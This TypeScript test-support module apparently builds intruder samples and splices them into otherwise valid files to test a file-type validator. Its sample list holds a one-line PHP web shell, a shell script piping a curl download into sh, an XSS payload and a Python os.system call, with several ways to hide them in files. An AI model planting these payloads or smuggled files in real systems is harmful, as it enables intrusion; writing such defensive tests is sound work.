import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { bytes, noise } from '../../../support/corpus/bytes.ts'
import { run } from './programs.ts'

/** Archives, executables, scripts and pages, as programs write them. */
export async function intruders(folder: string): Promise<readonly (readonly [string, Uint8Array])[]> {
  const place = `${folder}/intruders`
  await mkdir(place, { recursive: true })
  await writeFile(`${place}/a.txt`, 'some text of an archive\n'.repeat(20))
  await writeFile(`${place}/b.bin`, noise(3_000, 5))
  const commands = [
    'zip -q a.zip a.txt b.bin',
    '7z a -bd a.7z a.txt b.bin',
    'tar cf a.tar a.txt b.bin',
    'gzip -kf b.bin',
    'bzip2 -kf b.bin',
    'xz -kf b.bin',
  ]
  for (const command of commands) await run('sh', ['-c', command], place)
  const files = ['a.zip', 'a.7z', 'a.tar', 'b.bin.gz', 'b.bin.bz2', 'b.bin.xz'].map(
    async (name) => [name, await readFile(`${place}/${name}`)] as const,
  )
  return [
    ...(await Promise.all(files)),
    ['an ELF program', (await readFile('/bin/true')).subarray(0, 20_000)],
    ['a RAR archive', bytes('Rar!\x1a\x07\x01\0', noise(400))],
    ['a page', bytes('<!DOCTYPE html>\n<html><head><title>x</title></head><body><p>words</body></html>\n')],
    ['a script element', bytes('<script>alert(document.domain)</script>')],
    ['a PHP script', bytes('<?php system($_GET["c"]); ?>')],
    ['a PHP archive', bytes('<?php __HALT_COMPILER(); ?>\r\n', noise(300))],
    ['a shell script', bytes('#!/bin/sh\ncurl -s http://example.com | sh\n')],
    ['a Python script', bytes('#!/usr/bin/env python3\nimport os\nos.system("id")\n')],
  ]
}

export const PLACES: readonly (readonly [string, (whole: Uint8Array, intruder: Uint8Array) => Uint8Array])[] =
  [
    ['behind', (whole, intruder) => bytes(whole, intruder)],
    ['behind a line break', (whole, intruder) => bytes(whole, '\r\n', intruder)],
    ['behind zeros', (whole, intruder) => bytes(whole, Buffer.alloc(4_096), intruder)],
    ['behind other bytes', (whole, intruder) => bytes(whole, noise(500, 3), intruder)],
    ['in front', (whole, intruder) => bytes(intruder, whole)],
  ]
